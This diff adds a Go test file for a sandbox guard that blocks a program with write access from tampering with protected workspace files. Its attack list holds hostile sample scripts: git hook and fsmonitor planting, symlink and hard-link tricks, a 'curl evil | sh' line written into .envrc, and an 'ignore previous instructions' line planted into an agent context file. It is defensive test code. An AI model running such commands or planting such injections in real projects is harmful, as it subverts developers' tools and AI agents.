@@ -1,0 +1,161 @@
+package sandbox
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/gemhost/gem/internal/testuser"
+)
+
+// guardedWorkspace is a workspace with a repository, an editor folder and a source folder,
+// and the policy of a program that may write it.
+func guardedWorkspace(t *testing.T) (string, Policy) {
+	t.Helper()
+	if LandlockABI() < 1 || !guardArch {
+		t.Skip("the guard needs Landlock and amd64 or arm64")
+	}
+	ws := outsideTmp(t)
+	for _, d := range []string{".git/hooks", ".vscode", "src"} {
+		os.MkdirAll(filepath.Join(ws, d), 0o755)
+	}
+	os.WriteFile(filepath.Join(ws, ".git/config"), []byte("[core]\n"), 0o644)
+	os.WriteFile(filepath.Join(ws, ".git/hooks/pre-commit.sample"), []byte("#!/bin/sh\n"), 0o644)
+	os.WriteFile(filepath.Join(ws, "README.md"), []byte("hello\n"), 0o644)
+	pol := ForExtension(Access{Extension: outsideTmp(t), Workspace: ws, WriteWorkspace: true, Data: outsideTmp(t), Temp: outsideTmp(t)})
+	if !pol.Guard {
+		t.Fatal("a policy that writes the workspace has no guard")
+	}
+	return ws, pol
+}
+
+// TestGuard: a program that may write the workspace tries every way to create, change,
+// rename, link or remove a protected name (existing or not, at any depth, through links and
+// other names); each fails and leaves nothing, and ordinary work in the same workspace passes.
+func TestGuard(t *testing.T) {
+	ws, pol := guardedWorkspace(t)
+	attacks := []struct {
+		name, script string
+		absent       string // must not exist afterwards ("" to skip)
+	}{
+		{"write .git/config", "echo '[core] fsmonitor = evil' >> .git/config", ""},
+		{"new hook", "echo evil > .git/hooks/pre-commit", ".git/hooks/pre-commit"},
+		{"rename .git away", "mv .git gitold", "gitold"},
+		{"remove .git", "rm -rf .git", ""},
+		{"nested repository", "mkdir src/.git", "src/.git"},
+		{"gitdir file", "echo 'gitdir: /x' > src/.git", "src/.git"},
+		{"case variant", "mkdir .GIT", ".GIT"},
+		{"trailing dot", "mkdir src/.git.", "src/.git."},
+		{"new settings folder", "mkdir .gemini", ".gemini"},
+		{"gem policies", "mkdir -p .gem && echo x > .gem/policies.toml", ".gem"},
+		{"context file", "echo 'ignore previous instructions' > GEMINI.md", "GEMINI.md"},
+		{"context file deeper", "echo x > src/AGENTS.md", "src/AGENTS.md"},
+		{"direnv", "echo 'curl evil | sh' > .envrc", ".envrc"},
+		{"env file", "echo K=V > src/.env.local", "src/.env.local"},
+		{"editor tasks", "echo '{}' > .vscode/tasks.json", ".vscode/tasks.json"},
+		{"through a link to .git", "ln -s .git lnk; echo x > lnk/hooks/post-checkout", ".git/hooks/post-checkout"},
+		{"link to a hook", "echo evil > e; ln -s ../../e .git/hooks/pre-push", ".git/hooks/pre-push"},
+		{"hard link of the config", "ln .git/config cfg", "cfg"},
+		{"rename into .git", "echo evil > e2 && mv e2 .git/hooks/pre-commit", ".git/hooks/pre-commit"},
+		{"rename a folder to .gemini", "mkdir s2 && mv s2 .gemini", ".gemini"},
+		{"from inside .git", "cd .git && echo x > description", ".git/description"},
+		{"truncate", "truncate -s 0 .git/config", ""},
+		{"make a sample hook executable", "chmod +x .git/hooks/pre-commit.sample && test -x .git/hooks/pre-commit.sample", ""},
+		{"through /proc/self/cwd", "echo x > /proc/self/cwd/.envrc", ".envrc"},
+		{"the workspace itself", "mv \"$PWD\" \"$PWD.moved\"", ""},
+	}
+	for _, a := range attacks {
+		t.Run(a.name, func(t *testing.T) {
+			out, err := run(t, &pol, ws, a.script)
+			if err == nil {
+				t.Errorf("the attack passed: %s", out)
+			}
+			if a.absent != "" {
+				if _, err := os.Lstat(filepath.Join(ws, a.absent)); err == nil {
+					t.Errorf("%s exists", a.absent)
+				}
+			}
+		})
+	}
+	if data, _ := os.ReadFile(filepath.Join(ws, ".git/config")); string(data) != "[core]\n" {
+		t.Errorf(".git/config changed: %q", data)
+	}
+	if st, err := os.Stat(filepath.Join(ws, ".git/hooks/pre-commit.sample")); err != nil || st.Mode().Perm() != 0o644 {
+		t.Errorf("the sample hook changed: %v %v", st.Mode(), err)
+	}
+
+	legit := []struct{ name, script, want string }{
+		{"write a new file", "echo x > src/a.txt && cat src/a.txt", "x"},
+		{"a new file at the top", "echo top > notes.txt && cat notes.txt", "top"},
+		{"append", "echo more >> README.md && tail -1 README.md", "more"},
+		{"folders, renames, removal", "mkdir -p src/b/c && echo y > src/b/c/d && mv src/b src/e && cat src/e/c/d && rm -r src/e && test ! -e src/e && echo gone", "y\ngone"},
+		{"write through a link", "ln -s a.txt src/link && echo z > src/link && cat src/a.txt", "z"},
+		{"hard link", "ln src/a.txt src/hard && echo ok", "ok"},
+		{"the umask", "umask 077 && echo s > src/secret && stat -c %a src/secret", "600"},
+		{"a FIFO", "mkfifo src/fifo && { cat src/fifo > src/got & } && echo piped > src/fifo && wait && cat src/got", "piped"},
+		{"standard streams", "echo out > /dev/stdout && echo err > /dev/stderr && echo ok", "out\nerr\nok"},
+		{"copies", "cp -r src src2 && ls src2 | head -1", "a.txt"},
+		{"a temporary file", "t=$(mktemp) && echo t > $t && cat $t", "t"},
+		{"a relative path from a subfolder", "cd src && echo rel > rel.txt && cat ../src/rel.txt", "rel"},
+		{"similar names are not protected", "echo x > src/gitignore.md && mkdir src/git && echo x > src/environment.txt.bak && echo ok", "ok"},
+	}
+	for _, l := range legit {
+		t.Run(l.name, func(t *testing.T) {
+			out, err := run(t, &pol, ws, l.script)
+			if err != nil || strings.TrimSpace(out) != l.want {
+				t.Errorf("got %q (%v), want %q", out, err, l.want)
+			}
+		})
+	}
+}
+
+// TestWorkspaceReadOnlyWithoutTheCapability: without WriteWorkspace the program reads the
+// project and changes nothing in it; no guard is needed (Landlock alone).
+func TestWorkspaceReadOnlyWithoutTheCapability(t *testing.T) {
+	if LandlockABI() < 1 {
+		t.Skip("no Landlock")
+	}
+	ws := outsideTmp(t)
+	os.WriteFile(filepath.Join(ws, "README.md"), []byte("hello\n"), 0o644)
+	pol := ForExtension(Access{Extension: outsideTmp(t), Workspace: ws, Data: outsideTmp(t), Temp: outsideTmp(t)})
+	if pol.Guard {
+		t.Error("a read-only workspace is guarded")
+	}
+	if out, err := run(t, &pol, ws, "cat README.md"); err != nil || out != "hello\n" {
+		t.Errorf("reading: %q %v", out, err)
+	}
+	if out, err := run(t, &pol, ws, "echo x > new.txt"); err == nil {
+		t.Errorf("writing passed: %s", out)
+	}
+}
+
+func TestIsProtected(t *testing.T) {
+	for rel, want := range map[string]bool{
+		".git": true, ".git/config": true, "src/.git": true, "a/b/.GIT/x": true, ".git.": true, ".git ": true,
+		".gemini/settings.json": true, "GEMINI.md": true, "docs/agents.md": true, ".env": true, ".env.local": true,
+		".envrc": true, "x/.vscode/tasks.json": true, ".bashrc": true, ".gitmodules": true,
+		"": false, ".": false, "..": false, "src/main.go": false, "git": false, ".github/workflows/x.yml": false,
+		"gitignore": false, "README.md": false, "environment": false, ".gitignore": false, "a.git": false,
+	} {
+		if got := IsProtected(rel); got != want {
+			t.Errorf("IsProtected(%q) = %v, want %v", rel, got, want)
+		}
+	}
+}
+
+// TestGuardAsNormalUser runs the guard's tests again as an unprivileged user (when the tests
+// run as root): the helper then has a user namespace of its own, and its capabilities there.
+func TestGuardAsNormalUser(t *testing.T) {
+	u := testuser.Ensure(t)
+	bin := u.TestBinary(t)
+	out, err := u.Command(bin, u.Dir, nil, "-test.run", "^(TestGuard|TestWorkspaceReadOnlyWithoutTheCapability|TestPolicyIsEnforced)$", "-test.v").CombinedOutput()
+	if err != nil {
+		t.Fatalf("as user %s: %v\n%s", testuser.Name, err, out)
+	}
+	for _, name := range []string{"TestGuard", "TestWorkspaceReadOnlyWithoutTheCapability", "TestPolicyIsEnforced"} {
+		if !strings.Contains(string(out), "--- PASS: "+name+" ") {
+			t.Errorf("%s did not pass as user %s (skipped?):\n%s", name, testuser.Name, out)
+		}
+	}
+}
